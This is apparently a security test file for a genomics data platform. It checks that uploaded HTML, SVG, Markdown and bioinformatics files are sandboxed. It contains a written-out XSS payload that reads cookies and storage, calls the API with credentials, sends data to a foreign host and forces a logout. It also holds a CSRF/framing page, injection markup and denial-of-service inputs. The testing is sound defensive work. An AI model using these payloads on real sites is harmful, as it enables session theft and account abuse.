import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { randomInt } from 'node:crypto'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { promisify } from 'node:util'
import { files } from '@omics/contract/files/files'
import { projects } from '@omics/contract/projects/projects'
import { callApi, tokenOf } from './harness/api.ts'
import { becomes } from './harness/becomes.ts'
import { picture, settled, type Visitor } from './harness/browser.ts'
import { listen } from './harness/listen.ts'
import { testPlatform } from './harness/platform.ts'
import { storedFile } from './harness/stored-file.ts'

const platform = testPlatform('shown-files')
let visitor: Visitor
let projectId: string
/** A site of somebody else, whose page is what a test wants it to be. */
let elsewhere: Server
let elsewherePage = ''
let foreign: string
let askedElsewhere: string[] = []

before(async () => {
  visitor = await platform.administrator()
  projectId = (await callApi(visitor.page, projects.create, { body: { name: 'Shown' } })).id
  elsewhere = createServer((request, response) => {
    askedElsewhere.push(request.url ?? '')
    response.setHeader('content-type', 'text/html').end(elsewherePage)
  })
  foreign = `http://localhost:${await listen(elsewhere)}`
})
after(() => elsewhere?.close().closeAllConnections())

/** Uploads a file and gives its id. */
const stored = (name: string, content: string | Buffer) =>
  storedFile(visitor.page, platform.server.address, projectId, { name, content })

/** Uploads a file and gives the address at which it is shown. */
async function shown(name: string, content: string | Buffer): Promise<string> {
  const params = { id: projectId, file_id: await stored(name, content) }
  const { signed } = await callApi(visitor.page, files.show, { params })
  return new URL(signed?.url ?? assert.fail('a file has an address'), platform.server.address).href
}

/** Uploads a file and opens it beside the list. */
async function openBeside(name: string, content: string): Promise<void> {
  await visitor.page.goto(`/project/detail/${projectId}/files?file=${await stored(name, content)}`)
}

/** Tries what could act for the person who looks, and leaves what came of it in an attribute of the page. */
const attack = (target: string) => `
const outcome = {}
const tried = (name, work) => { try { outcome[name] = String(work()) } catch (error) { outcome[name] = 'refused ' + error.name } }
tried('origin', () => self.origin)
tried('cookie', () => document.cookie)
tried('storage', () => localStorage.length + ' ' + sessionStorage.length)
tried('databases', () => indexedDB.open('a').readyState)
tried('worker', () => navigator.serviceWorker.register('/api/x'))
const asked = (name, work) => work.then((value) => { outcome[name] = String(value) }, (error) => { outcome[name] = 'refused ' + error.name })
const image = new Image()
image.src = '${target}/image?' + location.search
const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe')
frame.src = '/project'
document.documentElement.append(frame)
const form = document.createElementNS('http://www.w3.org/1999/xhtml', 'form')
form.action = '/api/logout'
form.method = 'post'
document.documentElement.append(form)
form.submit()
Promise.all([
  asked('api', fetch('/api/user', { credentials: 'include' })),
  asked('abroad', fetch('${target}/fetch', { mode: 'no-cors' })),
  asked('script', import('${target}/script.js')),
]).then(() => new Promise((resolve) => setTimeout(resolve, 300))).then(() => {
  outcome.frame = frame.contentDocument ? frame.contentDocument.title : 'none'
  document.documentElement.setAttribute('data-outcome', JSON.stringify(outcome))
})`

const harmless = {
  origin: 'null',
  cookie: 'refused SecurityError',
  storage: 'refused SecurityError',
  databases: 'refused SecurityError',
  worker: 'refused SecurityError',
  frame: 'none',
  api: 'refused TypeError',
  abroad: 'refused TypeError',
  script: 'refused TypeError',
}

/** What a hostile page came to when opened in a tab of its own by somebody who is signed in. */
async function outcomeOf(address: string): Promise<unknown> {
  const page = await visitor.context.newPage()
  try {
    const answer = await page.goto(address)
    assert.match(
      answer?.headers()['content-security-policy'] ?? '',
      /^sandbox allow-scripts; default-src 'none';/,
    )
    const root = page.locator('[data-outcome]')
    await root.waitFor({ state: 'attached' })
    return JSON.parse((await root.getAttribute('data-outcome')) ?? '')
  } finally {
    await page.close()
  }
}

test('a page that somebody stored runs its own script in a tab, and reaches nothing of the person or the platform', async () => {
  askedElsewhere = []
  const html = `<!doctype html><title>a</title><body><script>${attack(foreign)}</script>`
  assert.deepEqual(await outcomeOf(await shown('hostile.html', html)), harmless)
  const escaped = attack(foreign).replaceAll('&', '&amp;').replaceAll('<', '&lt;')
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${escaped}</script></svg>`
  assert.deepEqual(await outcomeOf(await shown('hostile.svg', svg)), harmless)
  assert.deepEqual(askedElsewhere, [])
  await visitor.page.goto('/')
  assert.equal(await callUser(), 200, 'the form that it sent signed nobody out')
})

async function callUser(): Promise<number> {
  const authorization = `Bearer ${await tokenOf(visitor.page)}`
  return (await visitor.page.request.get('/api/user', { headers: { authorization } })).status()
}

test('a page that calls itself a text, a picture or a script stays what it is called', async () => {
  const html = `<script>document.documentElement.setAttribute('data-outcome', 'ran')</script>`
  for (const name of ['page.txt', 'page.csv', 'page.png', 'page.json', 'page.js', 'page.pdf', 'page']) {
    const page = await visitor.context.newPage()
    const address = await shown(name, html)
    // What a browser does not show it saves.
    const saved = page.waitForEvent('download', { timeout: 5000 }).catch(() => undefined)
    await page.goto(address).catch(() => saved)
    assert.equal(await page.locator('[data-outcome]').count(), 0, name)
    const { headers } = await fetch(address)
    assert.equal(headers.get('x-content-type-options'), 'nosniff')
    await page.close()
  }
})

test('a page of another site cannot show ours in a frame, nor sign anybody out', async () => {
  elsewherePage = `<iframe name="inside" src="${platform.server.address}/login"></iframe>
    <form method="post" action="${platform.server.address}/api/logout" enctype="text/plain"><button>Win a prize</button></form>`
  const page = await visitor.context.newPage()
  await page.goto(foreign)
  await page.waitForTimeout(500)
  const framed = page.frame({ name: 'inside' })
  assert.equal(await framed?.locator('#root').count(), 0)
  await page.getByRole('button', { name: 'Win a prize' }).click()
  await page.waitForURL('**/api/logout')
  await page.close()
  const names = (await visitor.context.cookies(`${platform.server.address}/api/`)).map(({ name }) => name)
  assert.ok(names.includes('token') && names.includes('ticket'), `left are ${names.join()}`)
  assert.equal(await callUser(), 200)
})

/** Reads as a sequencer writes them, of nothing. */
function reads(count: number): string {
  const bases = () => Array.from({ length: 80 }, () => 'ACGT'[randomInt(4)]).join('')
  return Array.from({ length: count }, (_, index) => `@r${index}\n${bases()}\n+\n${'I'.repeat(80)}\n`).join(
    '',
  )
}

test('a MultiQC report keeps its tables, pictures, icons and scripts of its own', async (context) => {
  const folder = await mkdtemp(join(tmpdir(), 'omics-multiqc-'))
  const run = promisify(execFile)
  try {
    await writeFile(join(folder, 'r.fastq'), reads(400))
    const fastp = ['-i', 'r.fastq', '-o', '/dev/null', '-j', 'sample.fastp.json', '-h', '/dev/null']
    const made = await run('fastp', fastp, { cwd: folder })
      .then(() => run('multiqc', ['--quiet', 'sample.fastp.json'], { cwd: folder }))
      .catch(() => undefined)
    if (!made) return context.skip('fastp and MultiQC are not installed on this machine')
    const address = await shown('multiqc_report.html', await readFile(join(folder, 'multiqc_report.html')))
    const page = await visitor.context.newPage()
    const refusals: string[] = []
    page.on('console', (message) => message.type() === 'error' && refusals.push(message.text()))
    await page.goto(address)
    // Builds of Debian take the library that draws plots from the Internet, which no shown file reaches.
    await page.locator('#general_stats_table tbody td').first().waitFor()
    assert.equal(await page.evaluate('typeof mqc_compressed_plotdata'), 'string')
    assert.ok(await page.evaluate('[...document.images].some((image) => image.naturalWidth > 0)'))
    // Its icons are letters of a font that it brings along.
    assert.ok(
      await page.evaluate(
        `document.fonts.ready.then(() => [...document.fonts].some(({ status }) => status === 'loaded'))`,
      ),
    )
    assert.deepEqual(
      refusals.filter((text) => text.includes("'data:")),
      [],
    )
    await picture(page, 'shown-multiqc')
    assert.equal(await page.evaluate('self.origin'), 'null')
    return await page.close()
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
})

test('a page of Markdown or HTML that is written to take hours to read holds up nobody', async () => {
  const { page } = visitor
  await openBeside('good.md', '# A heading\n\n<img src=x onerror="document.title=1">**bold**')
  await page.getByRole('heading', { name: 'A heading' }).waitFor()
  assert.equal(await page.locator('article strong').count(), 1)
  await openBeside('hostile.md', `# A heading\n\n${'**a_'.repeat(100_000)}`)
  await page.getByText('It could not be drawn as a page').waitFor({ timeout: 20_000 })
  await page.getByText('**a_**a_').first().waitFor()
  await openBeside('hostile-tags.html', `<h1>A heading</h1>${'<script '.repeat(400_000)}`)
  await page.frameLocator('iframe').getByRole('heading', { name: 'A heading' }).waitFor({ timeout: 10_000 })
  assert.equal(await page.evaluate('1 + 1'), 2)
})

test('beside the list a long text and a long table draw the rows in view, and their end is one press away', async () => {
  const { page } = visitor
  const lines = Array.from({ length: 40_000 }, (_, index) => `line ${index}`)
  const panel = page.getByRole('complementary')
  await openBeside('long.log', lines.join('\n'))
  await panel.getByText('line 0', { exact: true }).waitFor()
  await panel.getByRole('button', { name: 'Last lines' }).click()
  await panel.getByText('line 39999', { exact: true }).waitFor()
  assert.ok((await panel.getByText(/^line \d+$/).count()) < 200)
  await openBeside('long.csv', ['name,n', ...lines.map((line, n) => `${line},${n}`)].join('\n'))
  await panel.getByText('line 0', { exact: true }).waitFor()
  assert.ok((await panel.getByText(/^line \d+$/).count()) < 200)
})

/** What would be an element, wear the looks of the page or cover it, where a viewer takes it for markup. */
const asElement = (tag: string) =>
  `<${tag} data-drawn=x class=ant-modal-root id=root name=body style=position:fixed;inset:0>`
const marked = `${asElement('form')}${asElement('dialog open popover')}<input type=password data-drawn=x>Sign in`

/** Elements that a file has made: in the page, and in what a viewer keeps apart in it. */
const drawnByFile = `(() => {
  const found = []
  const look = (root) => {
    for (const element of root.querySelectorAll('*')) {
      const worn = element.closest('article') && ['class', 'id', 'name', 'style'].some((name) => element.hasAttribute(name))
      if (element.matches('[data-drawn], [type=password], dialog') || (worn && element.tagName !== 'ARTICLE'))
        found.push(element.outerHTML.slice(0, 200))
      if (element.shadowRoot) look(element.shadowRoot)
    }
  }
  look(document)
  return found
})()`

const header =
  '##fileformat=VCFv4.2\n##contig=<ID=c1,length=1000>\n##INFO=<ID=T,Number=1,Type=String,Description="t">'
const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')

/** A data set of Nextstrain: tree, map, diversity and legend all tell of the file's own words. */
const trait = { value: marked, confidence: { [marked]: 1 } }
const markedPathogen = {
  version: 'v2',
  meta: {
    title: marked,
    maintainers: [{ name: marked, url: 'javascript:document.body.dataset.drawn=1' }],
    colorings: [
      { key: 'country', title: marked, type: 'categorical', scale: [[marked, '"><b data-drawn>']] },
    ],
    geo_resolutions: [{ key: 'country', title: marked, demes: { [marked]: { latitude: 1, longitude: 1 } } }],
    genome_annotations: {
      nuc: { start: 1, end: 100, strand: '+' },
      [marked]: { start: 1, end: 30, strand: '+', type: marked },
    },
    filters: ['country'],
    panels: ['tree', 'map', 'entropy'],
  },
  tree: {
    name: marked,
    node_attrs: { div: 0, country: trait },
    children: [
      {
        name: `${marked}1`,
        node_attrs: { div: 1, country: trait },
        branch_attrs: { mutations: { nuc: ['A5C'], [marked]: ['M1I'] } },
      },
      { name: `${marked}2`, node_attrs: { div: 2, country: trait } },
    ],
  },
}

/** A file of each format that is drawn, with markup in each place for a text, and where a press tells of it. */
const markedFiles: Readonly<Record<string, string>> = {
  'a.gff3': `##gff-version 3\n##sequence-region c1 1 1000\nc1\t${marked}\tgene\t1\t1000\t.\t+\t.\tID=g1;Name=${marked.replaceAll(';', '%3B').replaceAll('=', '%3D')};Note=${marked.replaceAll(';', '%3B').replaceAll('=', '%3D')}\n`,
  'a.gtf': `c1\t${marked}\texon\t1\t1000\t.\t+\t.\tgene_id "g"; gene_name "${marked.replaceAll(';', '')}";\n`,
  'a.bed': `track name="${marked}" description="${marked}"\nc1\t0\t1000\t${marked}\t0\t+\n`,
  'a.bedgraph': `track type=bedGraph name="${marked}"\nc1\t0\t1000\t5\n`,
  'a.vcf': `${header}\n#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\tFORMAT\t${marked}\nc1\t10\t${marked}\tA\tC\t9\t${marked}\tT=${marked}\tGT\t0/1\n`,
  'a.fa': `>${marked.replaceAll(' ', '_')}\nACGTACGTACGT\n`,
  'a.fastq': `@${marked}\nACGT\n+\nIIII\n`,
  'a.assoc': `CHR SNP BP P\n${marked.replaceAll(' ', '_')} ${marked.replaceAll(' ', '_')} 10 1e-9\n`,
  'a.eigenvec': `#IID PC1 PC2\n${marked.replaceAll(' ', '_')} 1 2\n`,
  'a.csv': `name,${marked}\n${marked},1\n`,
  'a.json': JSON.stringify({ [marked]: marked }),
  'a.md': `# ${marked}\n\n${marked}\n\n<p class="ant-modal-root" id="root" name="body">worn</p>\n`,
  'a.txt': marked,
  'a.nwk': `('${marked}':1,b:2)'${marked}':1;`,
  'a.phyloxml': `<phyloxml><phylogeny rooted="true"><clade><clade><name>${escaped(marked)}</name><branch_length>1</branch_length></clade><clade><name>b</name></clade></clade></phylogeny></phyloxml>`,
  'a.afa': `>${marked}\nACGT-ACGT\n>b ${marked}\nACGTTACGT\n`,
  'a.sto': `# STOCKHOLM 1.0\n#=GF DE ${marked}\n${marked.replaceAll(' ', '_')} ACGT-ACGT\nb ACGTTACGT\n//\n`,
  'a.auspice.json': JSON.stringify(markedPathogen),
  'a.cif': `data_${marked.replaceAll(' ', '_')}\nloop_\n_atom_site.group_PDB\n_atom_site.id\n_atom_site.type_symbol\n_atom_site.label_atom_id\n_atom_site.label_comp_id\n_atom_site.label_asym_id\n_atom_site.label_entity_id\n_atom_site.label_seq_id\n_atom_site.Cartn_x\n_atom_site.Cartn_y\n_atom_site.Cartn_z\n_atom_site.auth_asym_id\nHETATM 1 C '${marked}' '${marked}' '${marked}' 1 . 0 0 0 '${marked}'\n`,
  'a.ipynb': JSON.stringify({
    nbformat: 4,
    metadata: {},
    cells: [
      { cell_type: 'markdown', source: marked },
      {
        cell_type: 'code',
        source: marked,
        execution_count: 1,
        outputs: [{ output_type: 'display_data', data: { 'text/html': marked } }],
      },
    ],
  }),
  'a.gct': `#1.2\n2\t3\nName\tDescription\t${marked}\tb\tc\n${marked}\t${marked}\t1\t2\t3\nh\tx\t3\t2\t1\n`,
  'a.bedpe': `c1\t0\t100\tc1\t500\t600\t${marked}\t9\t+\t-\n`,
  'a.seg': `ID\tchrom\tloc.start\tloc.end\tnum.mark\tseg.mean\n${marked}\tc1\t1\t1000\t5\t0.7\n`,
  'a.gb': `LOCUS       ${marked.replaceAll(' ', '_')} 12 bp DNA circular\nDEFINITION  ${marked}\nFEATURES             Location/Qualifiers\n     CDS             1..9\n                     /gene="${marked.replaceAll('"', '""')}"\nORIGIN\n        1 atgaaataaa cc\n//\n`,
  'a.hits.tsv': `qseqid\tsseqid\tqstart\tqend\tsstart\tsend\tevalue\tbitscore\tstitle\n${marked}\t${marked}\t1\t90\t1\t90\t1e-9\t90\t${marked}\n`,
}

test('what is drawn of a genome is as wide as its place, also where that changes without the window', async () => {
  const { page } = visitor
  await openBeside(
    'genes.gff3',
    '##gff-version 3\n##sequence-region c1 1 1000\nc1\tx\tgene\t1\t1000\t.\t+\t.\tID=g1\n',
  )
  const row = page.locator('.igv-viewport').first()
  await row.waitFor()
  const widthOf = async () => (await row.boundingBox())?.width ?? 0
  const before = await widthOf()
  await page.evaluate(`[...document.querySelectorAll('aside')].at(-1).style.maxWidth = '320px'`)
  assert.ok(
    await becomes(async () => (await widthOf()) < before - 40, 10),
    `${before}, then ${await widthOf()}`,
  )
})

test('no text of a file becomes an element of the page, wears its looks or covers it, whichever viewer shows it', async () => {
  const { page } = visitor
  for (const [name, content] of Object.entries(markedFiles)) {
    await openBeside(name.replace('a.', `${marked}.`), content)
    const panel = page.getByRole('complementary')
    await panel.waitFor()
    await settled(page)
    if (name === 'a.csv') {
      await panel.getByText('Chart', { exact: true }).click()
      await panel.locator('canvas').waitFor()
    }
    const drawn = panel.locator('.igv-viewport canvas')
    if (/gff3|gtf|bed|vcf/.test(name)) {
      await drawn
        .last()
        .waitFor({ timeout: 5000 })
        .catch(() => undefined)
      for (const one of await drawn.all()) {
        const box = await one.boundingBox()
        // What is drawn lies near the top; a second press that comes soon would be a double one, which zooms.
        for (const y of [10, 26]) {
          if (!box) continue
          await page.mouse.click(box.x + box.width / 2, box.y + y)
          await page.waitForTimeout(700)
        }
      }
      if (name === 'a.gff3') {
        assert.match(await panel.locator('.igv-ui-popover').last().innerText(), /<form data-drawn/)
        await picture(page, 'shown-marked-gff3')
      }
    }
    assert.deepEqual(await page.evaluate<string[]>(drawnByFile), [], name)
  }
})
